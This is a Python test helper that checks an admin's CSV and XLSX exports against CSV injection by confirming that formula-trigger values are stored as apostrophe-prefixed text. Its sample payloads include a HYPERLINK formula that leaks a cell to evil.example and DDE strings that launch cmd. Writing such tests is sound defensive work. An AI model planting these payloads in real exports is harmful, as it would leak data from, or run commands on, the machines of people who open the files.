"""Reading the CSV and XLSX exports of the admin in tests, and the values that a
spreadsheet would run as a formula (OWASP "CSV injection"), each of which an
export must write as text: with a leading apostrophe, never as typed."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

# One value per trigger of core.tabular.FORMULA_TRIGGERS: = + - @ tab CR.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMATS = ("csv", "xlsx")


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def cells(response, export_format: str) -> list:
    """Every cell of the export's rows below its heading: text for CSV, the
    openpyxl cells for XLSX."""
    body = _body(response)
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        return [cell for row in rows[1:] for cell in row]
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_neutralised(response, export_format: str, values=FORMULAS) -> None:
    """Each value is in the export as text behind an apostrophe, and no cell
    begins with a formula trigger."""
    assert response.status_code == 200
    found = cells(response, export_format)
    if export_format == "xlsx":
        assert all(cell.data_type != "f" for cell in found)
        found = [cell.value for cell in found if isinstance(cell.value, str)]
        # XML reads a carriage return back as a line feed.
        values = [value.replace("\r", "\n") for value in values]
    for value in values:
        assert "'" + value in found, value
        assert value not in found, value
    assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
